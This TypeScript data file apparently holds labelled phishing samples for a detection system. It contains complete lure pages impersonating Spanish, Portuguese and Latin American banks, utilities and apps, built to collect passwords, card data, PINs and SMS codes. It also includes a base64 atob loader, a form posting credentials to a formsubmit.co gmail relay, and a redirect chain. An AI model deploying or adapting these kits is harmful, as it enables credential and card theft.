import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, mark, topbar, foot, btn, form, b64, tgRelay, sms } from '../parts/zp-kit.js';
import { zip, pe, cfb, iso, lnk, apk, fileRoute, jsRoute, jsonRoute, pngRoute, beepWav } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zp-santander-es-sms-bloqueo-kit',
  label: 'phishing',
  kind: 'bank-sms-kit',
  url: 'https://santander-es.clientes-verificacion.com/particulares/acceso/?s=2',
  body: page({
    title: 'Santander | Acceso Clientes',
    css: `.card{border-top:5px solid #ec0000}`,
    body: `${topbar(mark('Santander', '#ec0000', 170), ['Particulares', 'Empresas', 'Ayuda'])}
<main><div class="card"><h1>Acceso a Banca Online</h1>
<div class="alert">Hemos detectado un acceso no reconocido desde un nuevo dispositivo. Para evitar el bloqueo de su cuenta, verifique su identidad antes de 24 horas.</div>
${form({ action: 'next.php', id: 'login', color: '#ec0000', button: 'Entrar', fields: [['Documento (NIF, NIE o Pasaporte)', 'documento', 'text', 'maxlength="12" required'], ['Clave de acceso', 'clave', 'password', 'maxlength="8" inputmode="numeric" required']] })}
<p class="muted"><a href="#">¿Has olvidado tu clave?</a> · <a href="#">Hazte cliente</a></p></div></main>
${foot('Banco Santander, S.A. 2025', ['Aviso legal', 'Seguridad', 'Cookies'])}`,
  }),
  routes: {
    'santander-es.clientes-verificacion.com/particulares/acceso/next.php': htmlRoute(page({ title: 'Santander | Verificación', body: `<main><div class="card"><h2>Confirmación por SMS</h2><p>Introduzca el código de 6 dígitos que le hemos enviado a su teléfono terminado en ***.</p><form method="post" action="fin.php"><label>Clave SMS</label>${sms(6)}<label>Número de tarjeta</label><input name="tarjeta" maxlength="19"><label>PIN de la tarjeta</label><input name="pin" type="password" maxlength="4">${btn('Confirmar', '#ec0000')}</form></div></main>` })),
  },
},
{
  id: 'zp-bradesco-modulo-seguranca-kit',
  label: 'phishing',
  kind: 'bank-sms-kit',
  url: 'https://bradesco.atualizacao-cadastral.net/pf/',
  body: page({
    lang: 'pt-BR',
    title: 'Bradesco | Atualização do Módulo de Segurança',
    css: `header.top{background:linear-gradient(90deg,#cc092f,#b81570)}`,
    body: `${topbar(mark('bradesco', '#fff', 160), ['Pessoa Física', 'Exclusive', 'Prime'], '#cc092f')}
<main><div class="card"><h2>Atualize seu cadastro</h2><div class="alert">Prezado cliente, o prazo para atualização do Módulo de Segurança termina hoje. Após esse prazo sua conta será bloqueada.</div>
${form({ action: 'pf/etapa2.php', color: '#cc092f', button: 'Avançar', fields: [['CPF', 'cpf', 'text'], ['Agência e conta', 'ag_conta', 'text'], ['Senha de 4 dígitos', 'senha', 'password', 'maxlength="4"'], ['Chave de segurança (cartão de chaves)', 'chave', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-nubank-lookalike-aumento-limite',
  label: 'phishing',
  kind: 'fintech-kit',
  url: 'https://nubank-limite.com.br-app.site/',
  body: page({
    lang: 'pt-BR',
    title: 'Nubank - Aumento de limite aprovado',
    css: `body{background:#820ad1}.card h1{color:#820ad1}`,
    body: `<main><div class="card"><svg width="60" height="34"><text x="0" y="26" font-size="26" font-weight="700" fill="#820ad1">nu</text></svg><h1>Parabéns! Seu limite foi aumentado para R$ 8.500</h1>
<p>Para liberar o novo limite confirme os dados do seu cartão.</p>
${form({ action: 'confirmar.php', color: '#820ad1', button: 'Liberar limite', fields: [['CPF', 'cpf', 'text'], ['Número do cartão', 'cartao', 'text', 'autocomplete="cc-number" maxlength="19"'], ['Validade', 'validade', 'text', 'placeholder="MM/AA"'], ['CVV', 'cvv', 'text', 'maxlength="3"'], ['Senha de 4 dígitos do app', 'senha', 'password', 'maxlength="4"']] })}</div></main>`,
  }),
},
{
  id: 'zp-galicia-ar-homebanking-kit',
  label: 'phishing',
  kind: 'bank-sms-kit',
  url: 'https://onlinebanking-galicia.com.ar-login.ws/inicio',
  body: page({
    title: 'Galicia - Online Banking',
    css: `body{background:#fafafa}.card{border-top:6px solid #fa6400}`,
    body: `<main><div class="card">${mark('Galicia', '#fa6400', 140)}<h1>Ingresá a Online Banking</h1><p class="muted">Por seguridad, validá tus datos para continuar operando con Token.</p>
${form({ action: 'validar.php', color: '#fa6400', button: 'Ingresar', fields: [['Tipo y número de documento', 'dni', 'text'], ['Usuario Galicia', 'usuario', 'text'], ['Clave Galicia', 'clave', 'password'], ['Clave Token', 'token', 'text', 'maxlength="6"']] })}</div></main>`,
  }),
},
{
  id: 'zp-millennium-bcp-pt-codigo-multicanal',
  label: 'phishing',
  kind: 'bank-sms-kit',
  url: 'https://millenniumbcp-pt.verificar-acesso.online/particulares/',
  body: page({
    lang: 'pt-PT',
    title: 'Millennium bcp | Particulares',
    css: `header.top{background:#d1005d}`,
    body: `${topbar(mark('Millennium', '#fff', 170), ['Particulares', 'Empresas'], '#d1005d')}
<main><div class="card"><h2>Acesso Particulares</h2><div class="alert">Por motivos de segurança, o seu acesso foi limitado. Confirme o seu código multicanal e as posições do cartão matriz.</div>
${form({ action: 'auth.php', color: '#d1005d', button: 'Entrar', fields: [['Código de utilizador', 'user', 'text'], ['Código multicanal', 'multicanal', 'password', 'maxlength="6"'], ['Número de telemóvel', 'tlm', 'tel']] })}</div></main>`,
  }),
},
{
  id: 'zp-iberdrola-reembolso-factura',
  label: 'phishing',
  kind: 'utility-kit',
  url: 'https://iberdrola-clientes.reembolso-energia.es/',
  body: page({
    title: 'Iberdrola Clientes - Reembolso',
    css: `header.top{background:#00a443}`,
    body: `${topbar(mark('iberdrola', '#fff', 160), [], '#00a443')}
<main><div class="card"><h2>Tiene un reembolso de 86,45 €</h2><p>Por un error en el cálculo de su última factura de luz le corresponde una devolución. Indique la tarjeta donde desea recibirla.</p>
${form({ action: 'devolucion.php', color: '#00a443', button: 'Solicitar devolución', fields: [['CUPS o número de contrato', 'contrato', 'text'], ['DNI', 'dni', 'text'], ['Tarjeta', 'tarjeta', 'text'], ['Caducidad', 'exp', 'text'], ['CVV', 'cvv', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-cfe-aviso-corte-pago',
  label: 'phishing',
  kind: 'utility-kit',
  url: 'https://cfe-pagos.mx-servicio.online/aviso',
  body: page({
    title: 'CFE | Aviso de suspensión',
    css: `header.top{background:#008e5a}`,
    body: `${topbar('<strong style="color:#fff">CFE Comisión Federal de Electricidad</strong>', [], '#008e5a')}
<main><div class="card"><h2>Aviso de suspensión del servicio</h2><p>Su recibo presenta un adeudo de $1,284.00. El corte se realizará hoy a las 18:00 h. Pague en línea para evitarlo.</p>
${form({ action: 'pagar.php', color: '#008e5a', button: 'Pagar', fields: [['Número de servicio', 'servicio', 'text', 'maxlength="12"'], ['Tarjeta', 'tarjeta', 'text'], ['Vencimiento', 'vence', 'text'], ['CVV', 'cvv', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-roundcube-hosting-cuota-llena',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://webmail.correo-hosting-es.net/roundcube/?_task=login',
  body: page({
    title: 'Webmail :: Bienvenido a Webmail',
    css: `body{background:#2f3a3f}.rc{max-width:360px;margin:100px auto;background:#fff;padding:30px;border-radius:4px}.rc button{background:#37beff;color:#fff}`,
    body: `<div class="rc"><h2>Roundcube Webmail</h2><p class="muted">Su cuota de correo está al 99 %. Inicie sesión para ampliar su espacio gratuitamente.</p>
<form method="post" action="https://formsubmit.co/ajax/envios.log2025@gmail.com" id="rcf"><input type="hidden" name="_task" value="login"><label>Usuario</label><input name="_user" type="email"><label>Contraseña</label><input name="_pass" type="password"><button type="submit">Iniciar sesión</button></form></div>`,
  }),
},
{
  id: 'zp-m365-docwrite-atob-factura',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://facturas-pendientes.sharepoint-docs.cloud/ver/Factura_0925.html',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title></head><body><script>var _0x1a=["${b64(page({ lang: 'es', title: 'Iniciar sesión en la cuenta', css: `body{background:#f2f2f2}.card{border-radius:0}`, body: `<div class="card"><svg width="108" height="24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-size="15" fill="#5e5e5e">Microsoft</text></svg><h2>Iniciar sesión</h2><p>Para ver el documento «Factura_0925.pdf» compartido contigo, confirma tu cuenta.</p><form id="ms" method="post" action="https://facturas-pendientes.sharepoint-docs.cloud/ver/n.php"><input name="loginfmt" type="email" placeholder="Correo electrónico, teléfono o Skype"><input name="passwd" type="password" placeholder="Contraseña" style="margin-top:10px"><button type="submit" style="background:#0067b8;color:#fff;width:auto;padding:8px 30px">Iniciar sesión</button></form></div>` }))}"];document.write(decodeURIComponent(escape(window.atob(_0x1a[0]))));</script></body></html>`,
},
{
  id: 'zp-whatsapp-codigo-verificacao-sequestro',
  label: 'phishing',
  kind: 'social-otp-kit',
  url: 'https://wa-verificacao.com.br-suporte.app/confirmar',
  body: page({
    lang: 'pt-BR',
    title: 'WhatsApp - Confirme seu número',
    css: `body{background:#e5ddd5}.card h2{color:#075e54}`,
    body: `<main><div class="card"><h2>WhatsApp Business</h2><p>Sua conta será desativada por violar os Termos de Serviço. Para contestar, confirme o código de 6 dígitos que enviamos por SMS.</p>
<form id="wz" method="post" action="codigo.php"><label>Número com DDD</label><input name="telefone" type="tel"><label>Código de verificação</label>${sms(6)}${btn('Confirmar', '#25d366')}</form></div></main>`,
  }),
},
{
  id: 'zp-netflix-es-pago-rechazado',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://netflix-cuenta.suscripcion-es.com/actualizar-pago',
  body: page({
    title: 'Netflix',
    css: `body{background:#000;color:#fff}.card{background:rgba(0,0,0,.75);color:#fff}.card label{color:#aaa}.card input{background:#333;color:#fff;border:0}`,
    body: `<div style="padding:20px 40px;color:#e50914;font-size:32px;font-weight:800">NETFLIX</div><main><div class="card"><h2>Tu pago ha sido rechazado</h2><p>Actualiza tu forma de pago para seguir disfrutando de Netflix. Si no lo haces en 24 horas, tu membresía se cancelará.</p>
${form({ action: 'billing.php', color: '#e50914', button: 'Actualizar', fields: [['Email', 'email', 'email'], ['Contraseña', 'password', 'password'], ['Número de tarjeta', 'cardnumber', 'text'], ['Fecha de vencimiento', 'exp', 'text'], ['CVV', 'cvv', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-free-fire-diamantes-garena-login',
  label: 'phishing',
  kind: 'game-kit',
  url: 'https://ff-diamantes-gratis.com.br/resgatar',
  body: page({
    lang: 'pt-BR',
    title: 'Free Fire - Resgate de Diamantes',
    css: `body{background:#1a1a1a;color:#fff}.card{background:#262626;color:#fff}.pack{display:inline-block;border:1px solid #f4a100;padding:10px;margin:4px;border-radius:6px}`,
    body: `<main><div class="card"><h2 style="color:#f4a100">EVENTO 8º ANIVERSÁRIO</h2><p>Escolha seu pacote:</p><div class="pack">💎 5.600</div><div class="pack">💎 11.200</div><p>Faça login com a conta vinculada ao seu ID do jogo:</p>
${form({ action: 'login.php', color: '#f4a100', button: 'Entrar com Facebook', fields: [['ID do jogador', 'playerid', 'text'], ['E-mail ou telefone do Facebook', 'email', 'text'], ['Senha', 'senha', 'password']] })}</div></main>`,
  }),
},
{
  id: 'zp-mercadolivre-compra-nao-reconhecida',
  label: 'phishing',
  kind: 'marketplace-kit',
  url: 'https://mercadolivre.com.br.compra-cancelar.site/login',
  body: page({
    lang: 'pt-BR',
    title: 'Mercado Livre - Cancelar compra',
    css: `header.top{background:#fff159}`,
    body: `${topbar('<strong style="color:#2d3277;font-size:20px">mercado livre</strong>', [], '#fff159')}
<main><div class="card"><h2>Compra não reconhecida de R$ 3.299,00</h2><p>iPhone 15 128GB — Se não foi você, entre na sua conta para cancelar.</p>
${form({ action: 'cancelar.php', color: '#3483fa', button: 'Entrar e cancelar', fields: [['E-mail, telefone ou usuário', 'user_id', 'text'], ['Senha', 'password', 'password']] })}</div></main>`,
  }),
},
{
  id: 'zp-redirect-chain-bbva-es-sms',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://bit-ly.es/Bbva3xQ',
  routes: {
    'bit-ly.es/Bbva3xQ': redirectRoute(302, 'https://trk.movil-avisos.com/c?id=92811&r=bbva'),
    'trk.movil-avisos.com/c': htmlRoute(`<!doctype html><html><head><meta http-equiv="refresh" content="0;url=https://bbva-es.seguridad-clientes.com/acceso"><script>location.replace("https://bbva-es.seguridad-clientes.com/acceso")</script></head><body></body></html>`),
    'bbva-es.seguridad-clientes.com/acceso': htmlRoute(page({
      title: 'BBVA | Acceso clientes',
      css: `body{background:#fff}header.top{background:#072146}`,
      body: `${topbar(mark('BBVA', '#fff', 110), [], '#072146')}<main><div class="card"><h2>Confirma tu identidad</h2><p>Se ha programado un cargo de 1.349,00 € a tu cuenta. Si no lo reconoces, accede para cancelarlo.</p>${form({ action: 'api/login.php', color: '#1973b8', button: 'Entrar', fields: [['DNI o NIE', 'dni', 'text'], ['Contraseña', 'pass', 'password'], ['Código SMS', 'otp', 'text']] })}</div></main>`,
    })),
  },
},
{
  id: 'zp-bizum-recibir-dinero-login',
  label: 'phishing',
  kind: 'payment-app-kit',
  url: 'https://bizum-recibir.pagos-es.com/cobro/7721',
  body: page({
    title: 'Bizum - Tienes un pago pendiente de recibir',
    css: `body{background:#05c3de}.card h2{color:#05c3de}`,
    body: `<main><div class="card"><h2>bizum</h2><p>Ana M. te ha enviado <strong>150,00 €</strong>. Para recibir el dinero, identifícate con tu banca online.</p>
<label>Selecciona tu banco</label><select name="banco"><option>Santander</option><option>BBVA</option><option>CaixaBank</option><option>Sabadell</option><option>ING</option><option>Unicaja</option></select>
${form({ action: 'recibir.php', color: '#05c3de', button: 'Recibir 150,00 €', fields: [['Usuario / DNI', 'usuario', 'text'], ['Clave de acceso', 'clave', 'password'], ['Número de tarjeta', 'tarjeta', 'text'], ['CVV', 'cvv', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-lure-documento-compartido-onedrive',
  label: 'phishing',
  kind: 'lure-link',
  url: 'https://storage.docs-compartidos.net/d/8c1e2a',
  body: page({
    title: 'Documento compartido',
    css: `.card{text-align:center}.pdf{font-size:64px}`,
    body: `<main><div class="card"><div class="pdf">📄</div><h2>Pago_Proveedor_Oct.pdf</h2><p>María López (administracion@transportes-lopez.es) ha compartido un archivo contigo a través de OneDrive.</p><p class="muted">Documento seguro · 248 KB</p>
<a class="btn" style="background:#0078d4;color:#fff" href="https://login-onedrive.accesos-office.com/common/oauth2/?doc=8c1e2a">Ver documento</a></div></main>`,
  }),
},
{
  id: 'zp-govbr-login-cnh-suspensa',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://acesso-gov.br-cnh.com/login',
  body: page({
    lang: 'pt-BR',
    title: 'gov.br - Acesse sua conta',
    css: `header.top{background:#fff}.card{max-width:460px}`,
    body: `${topbar('<strong style="color:#1351b4;font-size:24px">gov.br</strong>', [])}
<main><div class="card"><h2>Sua CNH será suspensa</h2><p>Constam 3 multas não pagas vinculadas ao seu CPF (SENATRAN). Identifique-se para consultar e pagar com desconto.</p>
${form({ action: 'multas.php', color: '#1351b4', button: 'Continuar', fields: [['Número do CPF', 'cpf', 'text'], ['Senha', 'senha', 'password']] })}</div></main>`,
  }),
},
];
